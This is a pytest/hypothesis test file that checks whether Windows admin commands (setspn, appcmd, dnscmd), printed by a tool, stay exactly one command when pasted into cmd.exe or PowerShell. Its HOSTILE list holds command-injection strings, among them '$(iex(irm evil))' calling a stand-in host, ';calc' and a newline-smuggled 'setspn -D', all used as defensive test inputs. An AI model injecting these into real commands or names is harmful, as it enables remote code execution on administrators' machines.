"""A line that a person pastes is exactly one command, the expected one, in cmd.exe and in PowerShell."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import get_args

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from shells import PasteError, as_cmd, as_powershell
from worlds import World, ad, app, computer, server, site, user, world

from agent.checks import commands
from agent.checks.commands import is_for_cmd, is_pasteable, setspn, word
from agent.cli import formats
from agent.model import PrincipalKind
from agent.names import AccountName, spn
from agent.render.screen import Screen, Shown
from agent.render.wording import pieces

HOSTILE = (
    *(
        "$(iex(irm evil))",
        "$env:x",
        "a$b",
        "$x",
        "${x}",
        "`n",
        "a`b",
        "{calc}",
        "a;calc",
        "a|calc",
        "a&calc",
        "a>b",
        "<a",
    ),
    *("\u201d; calc; \u201c", "\u2018a\u2019", "\u201ea", "\u2013S", "\u2014x", "\u2015x", "a'b", 'a"b', "%COMSPEC%"),
    *("a^b", "!x!", "-F", "/x", "\u02baa", "a\u02bc", "a\u2028b", "a\u202eb", "x\\", "a\tb", "a\nsetspn -D HTTP/b c"),
)
PEACEFUL = (
    *(
        "svc",
        "Büro (Test)",
        "svc-web_01.x",
        "gmsa$",
        "Sales & Support",
        "a, b",
        "a+b=c",
        "[x] #1",
        "ä@b",
        "Сервис",
        "網站",
    ),
    "サーバー",
)
_ALPHABET = "aZ09._-/\\:* (),+=#&@[]$`'\"%!{};<>|^~?\t\n\u2013\u2018\u201c\u201e\u02ba\u02bcäЖ網ー٣"
texts = st.one_of(st.text(_ALPHABET, max_size=12), st.text(max_size=6), st.sampled_from(HOSTILE + PEACEFUL))


FORMATS = [form for form in formats.FORMATS if {"inspect", "plan"} & {*form.commands}]
"""Those that write a report: the others bring no command."""


# -- one word ------------------------------------------------------------------------------------------------------

ALLOWED = re.compile(r"[A-Za-z0-9._\-/\\:*]+")
"""Of the contract: what may stand without quotes; within them also letters and digits of any script and these."""
IN_QUOTES = " (),+=#&@[]"


@given(texts, st.booleans())
@example("a$", True)
@example("a$", False)
def test_a_word_is_of_what_is_allowed_and_read_letter_for_letter(text: str, is_account: bool) -> None:
    shown = word(text, is_account=is_account)
    if shown is None:
        return
    bare = text.removesuffix("$") if is_account else text
    if shown == text:
        assert ALLOWED.fullmatch(bare)
    else:
        assert shown == f'"{text}"'
        assert all(
            ALLOWED.match(c) or c in IN_QUOTES or (not c.isascii() and (c.isalpha() or c.isdigit())) for c in bare
        )
    line = f"setspn -L {shown}"
    assert as_powershell(line) == ("setspn", "-L", text)
    assert as_cmd(line) == (("setspn", "-L", text),)
    assert is_pasteable(line)


@pytest.mark.parametrize("text", [text for text in HOSTILE if text != "a&calc"])
def test_what_a_shell_acts_on_is_no_word(text: str) -> None:
    assert word(text) is None
    assert word(text, is_account=True) is None


@pytest.mark.parametrize("text", PEACEFUL)
def test_ordinary_names_stay_pasteable(text: str) -> None:
    assert word(text, is_account=True) is not None


KINDS: tuple[PrincipalKind | None, ...] = ("user", "computer", "managed", None)


@given(texts, texts, st.sampled_from(KINDS), st.sampled_from(["-S", "-D"]))
def test_a_setspn_line_is_the_same_one_command_in_both_shells(
    name: str, account: str, kind: PrincipalKind | None, action: str
) -> None:
    line = setspn(action, spn(f"HTTP/{name}"), AccountName("TEST", account), kind)
    if line is None:
        return
    assert not is_for_cmd(line)
    assert as_cmd(line) == (as_powershell(line),)
    program, *switches, value, holder = as_powershell(line)
    shown = f"TEST\\{account}"
    assert (program, value) == ("setspn", f"HTTP/{name}")
    assert holder == (shown.removesuffix("$") if kind == "computer" else shown)
    assert set(switches) <= {"-F", "-U", "-C", action}
    assert action in switches


@given(texts, st.sampled_from(["/", "/app", "/a b"]))
def test_an_appcmd_line_is_one_command_of_cmd(name: str, path: str) -> None:
    line = commands.appcmd(name, path, "useKernelMode", "true")
    if line is None:
        return
    assert is_for_cmd(line)
    ((program, *arguments),) = as_cmd(line)
    assert (program, arguments[:3]) == ("appcmd", ["set", "config", f"{name}{path}".rstrip("/")])
    assert len(arguments) == 6


@given(texts, texts, texts)
def test_a_dnscmd_line_is_two_commands_of_cmd(zone: str, name: str, target: str) -> None:
    line = commands.dnscmd(zone, name, "CNAME", f"A {target}")
    if line is not None:
        assert is_for_cmd(line)
        gone, new = as_cmd(line)
        assert gone == ("dnscmd", "/RecordDelete", zone, name, "CNAME", "/f")
        assert new == ("dnscmd", "/RecordAdd", zone, name, "A", target)


@given(st.lists(texts, max_size=4).map(" ".join))
def test_whatever_is_called_pasteable_is_one_command(rest: str) -> None:
    line = f"setspn {rest}"
    if is_pasteable(line) and "&&" not in line:
        assert as_powershell(line)
        assert len(as_cmd(line)) == 1


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_in_a_sentence_is_never_shown_as_a_command(name: str) -> None:
    for sentence in (f"Remove it: setspn -D HTTP/x {name}", f"Remove it: setspn -D HTTP/x TEST\\{name} (now)"):
        for piece in pieces(sentence):
            if piece.command:
                assert as_powershell(piece.text)


# -- everything that is printed ------------------------------------------------------------------------------------


def worlds(name: str) -> Iterator[World]:
    """The name in each place where somebody else chooses it."""
    dns = "iis01 A 10.0.5.2; portal A 10.0.5.2; alias CNAME portal"
    header, held = "*:80:portal.test.com", "HTTP/portal.test.com"
    plain, taken = ad(computer(), user("svc")), ad(computer(), user("svc"), user(name, held))
    apps = [app("/", creds=True), app(f"/{name}", creds=True)]
    yield world(server(site(header), pool=r"TEST\svc", creds=True), ad=taken, dns=dns)
    yield world(server(site(header), pool=rf"TEST\{name}", creds=True), ad=ad(computer(), user(name)), dns=dns)
    yield world(server(site(header), pool=rf"TEST\{name}", creds=True), dns=dns)
    yield world(server(site(header, name=name), pool=r"TEST\svc"), ad=ad(computer(), user("svc", held)), dns=dns)
    yield world(server(site(header, apps=apps), pool=r"TEST\svc"), ad=plain, dns=dns)
    yield world(server(site(f"*:80:{name}.test.com"), pool=r"TEST\svc", creds=True), ad=plain, dns=dns)
    yield world(server(site(header), name=name, pool=r"TEST\svc", creds=True), ad=plain, dns=dns)


COMMAND = re.compile(r"(?:back: |rem +|# +|ASK FIRST: |`)*((?:setspn -|dnscmd /|klist get|iis-spn probe|%windir%).*)")


@pytest.mark.parametrize("name", [*HOSTILE, *PEACEFUL])
def test_every_line_printed_as_a_command_is_one(name: str) -> None:
    """Whatever is printed at the beginning of a line, or as a step of the report, in every format."""
    for found in worlds(name):
        plan = found.report.plan
        for step in (*plan.steps, *(each for other in plan.alternatives for each in other.steps)):
            for line in filter(None, (step.command, step.rollback)):
                assert len(as_cmd(line)) == 1 + line.count(" && ")
                assert is_for_cmd(line) or as_powershell(line)
        for form in FORMATS:
            if form.name not in {"json", "csv"}:
                for shown in get_args(Shown):
                    look(form.name, "".join(form.pieces(found.report, Screen(100, False, shown))))


def look(form: str, text: str) -> None:
    for line in re.split(r"\r?\n", text):
        stripped = line.strip()
        if form == "cmd" and not stripped.startswith("rem"):
            continue  # code: test_script.py reads it
        match = COMMAND.fullmatch(stripped)
        if match is None or (form == "markdown" and "`" not in stripped):
            continue
        command = match[1].rstrip("`")
        if not is_for_cmd(command):
            as_powershell(command)
        as_cmd(command)


@pytest.mark.parametrize(
    "line", ['setspn -D x "TEST\\$(iex(irm evil))"', "setspn -L a; calc", "setspn -L \u201ca\u201d"]
)
def test_the_reader_of_these_tests_sees_what_runs(line: str) -> None:
    with pytest.raises(PasteError):
        as_powershell(line)


def test_what_is_for_cmd_only_is_headed_so() -> None:
    held = user("svc", "HTTP/portal.test.com")
    found = world(server(site("*:80:portal.test.com"), pool=r"TEST\svc"), ad=ad(computer(), held))
    assert any(is_for_cmd(step.command or "") for step in found.report.plan.steps)
    for form in FORMATS:
        if form.module == "agent.render.story" or form.name in {"json", "cmd"}:
            continue
        text = "".join(form.pieces(found.report, Screen(200, False, "all")))
        text = text.partition('<script type="application/json"')[0]  # the data of a page, as in json
        lines = [line for line in text.splitlines() if line.strip()]
        for number, line in enumerate(lines):
            if "appcmd.exe" in line and "back:" not in line:
                above = " ".join(lines[max(number - 8, 0) : number])
                assert re.search(r"\bcmd\b", above + line[: line.index("%windir%")]), (form.name, line)
